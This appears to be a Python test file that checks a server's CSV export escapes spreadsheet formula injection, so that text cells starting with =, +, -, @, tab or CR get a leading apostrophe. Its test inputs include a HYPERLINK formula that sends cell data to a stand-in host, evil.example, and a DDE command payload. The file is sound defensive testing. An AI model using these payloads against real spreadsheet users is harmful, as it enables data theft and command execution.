"""On a real server: a CSV export never hands a spreadsheet a formula. Text cells starting
with = + - @ tab or CR get a leading ', numbers stay numbers. The dashboard's CSV button
downloads this same export (``web/js/api.js``: ``downloadExport``)."""

from __future__ import annotations

import csv
import io
import json
import urllib.request
from pathlib import Path

import synth

from gradwatch.wire import shown
from tests.serverproc import ServerProc

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"help")', "+cmd|' /C calc'!A0",
         "@SUM(A1:A9)", "-2+3", "\tTAB", "plain#0"]


def test_formula_names_export_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    with ServerProc(tmp_path / "data") as srv:
        for i, opt in enumerate(NAMES):
            text = synth.log_text(synth.records(f"r{i}", steps=3, opt=opt))
            req = urllib.request.Request(f"{srv.http}/api/runs/import", data=text.encode(),
                                         headers={"Content-Type": "application/x-ndjson"})
            with urllib.request.urlopen(req, timeout=30) as r:
                run = json.loads(r.read())["run"]
            with urllib.request.urlopen(f"{srv.http}/api/runs/{run}/export?format=csv",
                                        timeout=30) as r:
                rows = list(csv.reader(io.StringIO(r.read().decode())))
            head, body = rows[0], rows[1:]
            col = {c: j for j, c in enumerate(head)}
            # Names arrive escaped (a tab reads "\\t", wire.shown), then the formula rule.
            stored = shown(opt)
            want = "'" + stored if stored[0] in "=+-@\t\r" else stored
            assert {row[col["opt"]] for row in body} == {want}, opt
            for row in body:  # every other cell: a number, or text no formula starts
                for c, cell in zip(head, row, strict=True):
                    if c != "opt" and cell and cell[0] in "=+-@\t\r":
                        float(cell)
            assert [float(row[col["norm"]]) for row in body] == [
                s.norm for s in synth.records(f"r{i}", steps=3, opt=opt)
                if getattr(s, "type", "") == "step"]


def test_the_rule_cell_by_cell() -> None:
    from gradwatch.server.exports import spreadsheet_text

    cases = {"=1+1": "'=1+1", "+x": "'+x", "-x": "'-x", "@x": "'@x", "\tx": "'\tx",
             "\rx": "'\rx", "-0.5": "-0.5", "+1e3": "+1e3", "SGD#0": "SGD#0", "a=b": "a=b",
             "": ""}
    assert {k: spreadsheet_text(k) for k in cases} == cases
